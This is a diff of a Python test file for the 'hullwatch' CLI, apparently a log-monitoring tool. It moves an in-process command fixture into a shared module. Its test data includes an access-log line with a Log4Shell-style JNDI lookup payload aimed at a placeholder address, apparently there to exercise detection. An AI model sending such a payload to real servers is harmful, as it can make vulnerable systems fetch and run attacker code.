@@ -7,16 +7,14 @@ import json
 from typing import TYPE_CHECKING, Any
 
 import pytest
-import typer.main
 
-from hullwatch.cli.errors import run_safely
-from hullwatch.cli.main import app
+from tests.cli.in_process import Command, command
 from tests.sources.container_logs.test_unwrapping import AZURE, INSIGHTS, SUBSCRIPTION, TIME, packed
 
 if TYPE_CHECKING:
     from pathlib import Path
 
-    from tests.cli.in_process import Command
+__all__ = ["command"]
 
 SAID = '192.0.2.7 "GET /?q=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 200 5'
 ID = "d" * 64
@@ -36,19 +34,6 @@ WRAPPED = {
     ),
     "azure": ("export.json", line({"records": [AZURE]})),
 }
-
-
-@pytest.fixture
-def command(capfd: pytest.CaptureFixture[str]) -> Command:
-    """Run ``hullwatch`` as ``in_process.command`` does; alerts go past Python's own standard output."""
-    main = typer.main.get_command(app).main
-
-    def run(*arguments: str) -> tuple[int, list[str], str]:
-        code = run_safely(lambda: main([*arguments], prog_name="hullwatch", standalone_mode=False))
-        said = capfd.readouterr()
-        return code, said.out.splitlines(), said.err
-
-    return run
 
 
 @pytest.mark.parametrize("name", WRAPPED)
